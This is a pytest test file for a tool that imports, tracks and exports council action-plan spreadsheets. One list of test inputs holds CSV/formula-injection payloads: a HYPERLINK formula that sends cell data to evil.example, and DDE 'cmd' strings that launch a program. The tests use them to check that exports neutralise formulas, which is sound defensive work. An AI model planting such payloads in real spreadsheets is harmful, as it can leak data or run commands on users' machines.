"""Action plans end to end: template, import, history, overdue and slipped, export, idempotence.

Spreadsheets are made in the test with openpyxl from the real template peergraph writes for a
seed council, then filled in as a council officer would.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from graph.plans.loader import import_plan
from graph.plans.sheets import HEADER_ROW, write_plan_export, write_plan_template
from graph.reads.actions import action, council_actions
from graph.store import GraphStore
from graph.store.stats import store_stats
from importers.action_plan import read_action_plan
from peergraph.core.settings import Settings
from tests.fixtures import MAX_BYTES, TORBAY, fill_template, writable_store
from tests.neo4j_server import BACKENDS, seeded_settings

PEERGRAPH = str(Path(sys.executable).parent / "peergraph")


@pytest.fixture(params=BACKENDS)
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[GraphStore]:
    with writable_store(seeded_settings(request, tmp_path)) as opened:
        yield opened


@pytest.fixture
def embedded_store(seed_db_copy: Path) -> Iterator[GraphStore]:
    """For the tests that run the CLI on the store's file."""
    with writable_store(Settings(db=seed_db_copy, neo4j_uri=None)) as opened:
        yield opened


def _import(store: GraphStore, path: Path) -> object:
    return import_plan(store, read_action_plan(path, MAX_BYTES), TORBAY, by="test")


def test_template_lists_the_summary_recommendations(store: GraphStore, tmp_path: Path) -> None:
    template = tmp_path / "template.xlsx"
    assert write_plan_template(store, TORBAY, template) == 7
    sheet = load_workbook(template)["Action plan"]
    assert sheet.cell(HEADER_ROW, 1).value == "Ref" and sheet.cell(HEADER_ROW + 1, 1).value == "R1"
    assert str(sheet.cell(HEADER_ROW + 1, 2).value).startswith("Alongside the role of the new S75")


def test_import_links_every_row_and_importing_again_changes_nothing(
    store: GraphStore, tmp_path: Path
) -> None:
    filled = fill_template(store, tmp_path, status="On track", due="Q3 2025/26", progress="Started")
    first = _import(store, filled)
    assert (first.created, first.linked, first.unlinked) == (7, 7, [])  # type: ignore[attr-defined]
    actions = council_actions(store, TORBAY, today=date(2025, 6, 1))
    assert {a.status for a in actions} == {"on_track"}
    assert {a.due_date for a in actions} == {"2025-12-31"}
    assert all(a.recommendation_id and a.link_method == "reference" for a in actions)
    assert all({"DASS", "Jane Smith"} <= set(a.owners) for a in actions)
    before = store_stats(store)
    again = _import(store, filled)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 7)  # type: ignore[attr-defined]
    assert store_stats(store).labels == before.labels


def test_a_later_plan_appends_history_and_shows_slippage(store: GraphStore, tmp_path: Path) -> None:
    _import(store, fill_template(store, tmp_path, status="On track", due="31/03/2025", progress="Started"))
    _import(
        store,
        fill_template(store, tmp_path, status="Slipped", due="30/09/2025", progress="Delayed by recruitment"),
    )
    actions = council_actions(store, TORBAY, today=date(2025, 10, 15))
    first = actions[0]
    assert [(u.seq, u.status, u.due_date) for u in first.history] == [
        (1, "on_track", "2025-03-31"),
        (2, "slipped", "2025-09-30"),
    ]
    assert first.slipped and first.overdue and first.status == "slipped"
    assert not council_actions(store, TORBAY, today=date(2025, 9, 1))[0].overdue


def test_template_filled_imported_exported_and_imported_again_is_idempotent(
    store: GraphStore, tmp_path: Path
) -> None:
    _import(store, fill_template(store, tmp_path, status="At risk", due="March 2026", progress="Scoping"))
    exported = tmp_path / "export.xlsx"
    assert write_plan_export(store, TORBAY, exported) == 7
    before = [a.model_dump() for a in council_actions(store, TORBAY)]
    result = _import(store, exported)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 7)  # type: ignore[attr-defined]
    assert [a.model_dump() for a in council_actions(store, TORBAY)] == before
    history = load_workbook(exported)["History"]
    assert history.cell(HEADER_ROW, 1).value == "peergraph row key" and history.max_row == HEADER_ROW + 7


def test_a_malformed_plan_loads_nothing_and_says_why(embedded_store: GraphStore, tmp_path: Path) -> None:
    bad = tmp_path / "plan.xlsx"
    bad.write_bytes(b"this is not a workbook")
    db = Path(embedded_store.location)
    embedded_store.close()
    done = subprocess.run(
        [PEERGRAPH, "import-plan", str(bad), "--council", TORBAY, "--db", str(db)],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 2
    assert len(done.stderr.strip().splitlines()) == 1 and "plan.xlsx" in done.stderr
    stats = json.loads(
        subprocess.run([PEERGRAPH, "stats", "--db", str(db), "--json"], capture_output=True, text=True).stdout
    )
    assert stats["action_items"] == 0


def test_cli_round_trip_and_unlinked_listing(embedded_store: GraphStore, tmp_path: Path) -> None:
    store = embedded_store
    filled = fill_template(store, tmp_path, status="Complete", due="Q1 2025", progress="Done")
    workbook = load_workbook(filled)
    sheet = workbook["Action plan"]
    extra_row = sheet.max_row + 1
    sheet.cell(extra_row, 1, "N1")  # a new row of the council's own, matching no recommendation
    sheet.cell(extra_row, 2, "Refresh the carers' website pages")
    sheet.cell(extra_row, 3, "Rewrite the pages with carers")
    workbook.save(filled)
    db = Path(store.location)
    store.close()
    imported = subprocess.run(
        [PEERGRAPH, "import-plan", str(filled), "--council", TORBAY, "--db", str(db)],
        capture_output=True,
        text=True,
    )
    assert imported.returncode == 0, imported.stderr
    assert "8 actions added" in imported.stdout and "1 unlinked" in imported.stdout
    listing = subprocess.run(
        [PEERGRAPH, "link", "--council", TORBAY, "--db", str(db)], capture_output=True, text=True
    )
    assert "Rewrite the pages with carers" in listing.stdout
    exported = tmp_path / "out.xlsx"
    assert (
        subprocess.run(
            [PEERGRAPH, "export-plan", "--council", TORBAY, "-o", str(exported), "--db", str(db)],
            capture_output=True,
        ).returncode
        == 0
    )
    with writable_store(Settings(db=db, neo4j_uri=None)) as reopened:
        unlinked = next(a for a in council_actions(reopened, TORBAY) if not a.recommendation_id)
        target = next(a for a in council_actions(reopened, TORBAY) if a.recommendation_id)
    linked = subprocess.run(
        [PEERGRAPH, "link", unlinked.id, target.recommendation_id or "", "--db", str(db)],
        capture_output=True,
        text=True,
    )
    assert linked.returncode == 0, linked.stderr
    with writable_store(Settings(db=db, neo4j_uri=None)) as reopened:
        assert action(reopened, unlinked.id).link_method == "manual"
        import_plan(reopened, read_action_plan(filled, MAX_BYTES), TORBAY)
        assert action(reopened, unlinked.id).recommendation_id == target.recommendation_id, (
            "a manual link survives"
        )


def _run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PEERGRAPH, *args], capture_output=True, text=True)


def test_filling_two_rows_of_the_template_adds_two_actions(
    embedded_store: GraphStore, tmp_path: Path
) -> None:
    template = tmp_path / "template.xlsx"
    write_plan_template(embedded_store, TORBAY, template)
    workbook = load_workbook(template)
    sheet = workbook["Action plan"]
    for row in (HEADER_ROW + 1, HEADER_ROW + 4):
        sheet.cell(row, 3, f"Deliver recommendation {sheet.cell(row, 1).value}")
        sheet.cell(row, 6, "On track")
    sheet.cell(HEADER_ROW + 6, 4, "DASS")  # an owner on a row whose action was never written
    workbook.save(template)
    db = Path(embedded_store.location)
    embedded_store.close()

    done = _run("import-plan", str(template), "--council", TORBAY, "--db", str(db))

    assert done.returncode == 0, done.stderr
    assert "2 actions added" in done.stdout and "5 rows skipped (1 of them fill other cells" in done.stdout
    assert f"{HEADER_ROW + 6}" in done.stdout and "Lead officer" in done.stdout
    with writable_store(Settings(db=db, neo4j_uri=None)) as reopened:
        actions = council_actions(reopened, TORBAY)
    assert sorted(a.ref or "" for a in actions) == ["R1", "R4"]
    assert all(a.text and a.status == "on_track" for a in actions)


def test_history_is_dated_when_the_plan_was_true(embedded_store: GraphStore, tmp_path: Path) -> None:
    june = fill_template(embedded_store, tmp_path, status="On track", due="Q3 2025/26", progress="Started")
    workbook = load_workbook(june)
    workbook["Action plan"].cell(2, 1, "As at 30 June 2025")
    workbook.save(june)
    october = fill_template(embedded_store, tmp_path, status="Slipped", due="Q4 2025/26", progress="Delayed")
    db = Path(embedded_store.location)
    embedded_store.close()

    first = _run("import-plan", str(june), "--council", TORBAY, "--db", str(db))
    second = _run("import-plan", str(october), "--council", TORBAY, "--db", str(db), "--as-of", "2025-10-31")
    refused = _run("import-plan", str(october), "--council", TORBAY, "--db", str(db), "--as-of", "31/02/2025")

    assert first.returncode == 0 and "as at 2025-06-30, from sheet 'Action plan' cell A2" in first.stdout
    assert second.returncode == 0 and "as at 2025-10-31, from given when imported (given)" in second.stdout
    assert refused.returncode == 2 and "--as-of: '31/02/2025': no such day" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    with writable_store(Settings(db=db, neo4j_uri=None)) as reopened:
        actions = council_actions(reopened, TORBAY)
    assert {tuple(u.at for u in a.history) for a in actions} == {("2025-06-30", "2025-10-31")}


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def fill_with_formulas(store: GraphStore, folder: Path) -> Path:
    """The template filled with text that starts like a formula in every text column."""
    template = folder / "template.xlsx"
    rows = write_plan_template(store, TORBAY, template)
    workbook = load_workbook(template)
    sheet = workbook["Action plan"]
    for offset, row in enumerate(range(HEADER_ROW + 1, HEADER_ROW + 1 + rows)):
        text = INJECTIONS[offset % len(INJECTIONS)]
        sheet.cell(row, 3, f"{text} action {offset}")  # openpyxl stores "=..." as a formula, unsaved
        sheet.cell(row, 4, text if offset % 2 else "DASS")
        sheet.cell(row, 5, "Q3 2025/26")
        sheet.cell(row, 6, "On track")
        sheet.cell(row, 8, f"{text} progress {offset}")
    filled = folder / "formulas.xlsx"
    workbook.save(filled)
    return filled


def test_exports_store_imported_text_as_text_never_as_a_formula(store: GraphStore, tmp_path: Path) -> None:
    imported = _import(store, fill_with_formulas(store, tmp_path))
    assert imported.created == 7  # type: ignore[attr-defined]
    workbook_path, csv_path = tmp_path / "export.xlsx", tmp_path / "export.csv"

    write_plan_export(store, TORBAY, workbook_path)
    write_plan_export(store, TORBAY, csv_path)

    workbook = load_workbook(workbook_path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    risky = [
        cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]
    assert len(risky) >= 20 and {sheet.title for sheet in workbook.worksheets} == {"Action plan", "History"}
    assert all(cell.quotePrefix for cell in risky)
    assert any(cell.parent.title == "History" for cell in risky)
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        fields = [field for record in csv.reader(handle) for field in record]
    assert sum(field.startswith("'=") for field in fields) >= 10
    assert not [field for field in fields if field.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("form", [".xlsx", ".csv"])
def test_a_plan_whose_texts_start_like_formulas_round_trips_unchanged(
    store: GraphStore, tmp_path: Path, form: str
) -> None:
    _import(store, fill_with_formulas(store, tmp_path))
    before = [a.model_dump() for a in council_actions(store, TORBAY)]
    assert {a["text"].split(" action")[0] for a in before} == set(INJECTIONS)
    exported = tmp_path / f"export{form}"
    write_plan_export(store, TORBAY, exported)

    again = _import(store, exported)

    assert (again.created, again.updated, again.unchanged) == (0, 0, 7)  # type: ignore[attr-defined]
    assert [a.model_dump() for a in council_actions(store, TORBAY)] == before


def test_an_export_keeps_the_plans_own_words_and_columns(store: GraphStore, tmp_path: Path) -> None:
    plan = tmp_path / "plan.csv"
    plan.write_text(
        "Ref,Recommendation,Action,Lead,Due,Status,Priority,Budget\n"
        "R1,Our words for the first recommendation,Write the strategy,DASS,Q3 2025/26,On track,High,£10k\n"
        "R2,Our words for the second,Train staff,PSW,31/03/2026,Not started,Low,\n",
        encoding="utf-8",
    )
    _import(store, plan)
    before = [a.model_dump() for a in council_actions(store, TORBAY)]
    exported = tmp_path / "export.xlsx"
    write_plan_export(store, TORBAY, exported)

    again = _import(store, exported)

    sheet = load_workbook(exported)["Action plan"]
    header = [cell.value for cell in sheet[HEADER_ROW]]
    first = dict(zip(header, [cell.value for cell in sheet[HEADER_ROW + 1]], strict=True))
    assert first["Recommendation"] == "Our words for the first recommendation"
    assert (first["Target date"], first["Priority"], first["Budget"]) == ("Q3 2025/26", "High", "£10k")
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)  # type: ignore[attr-defined]
    after = [a.model_dump() for a in council_actions(store, TORBAY)]
    assert after == before and after[0]["extra"] == {"Priority": "High", "Budget": "£10k"}
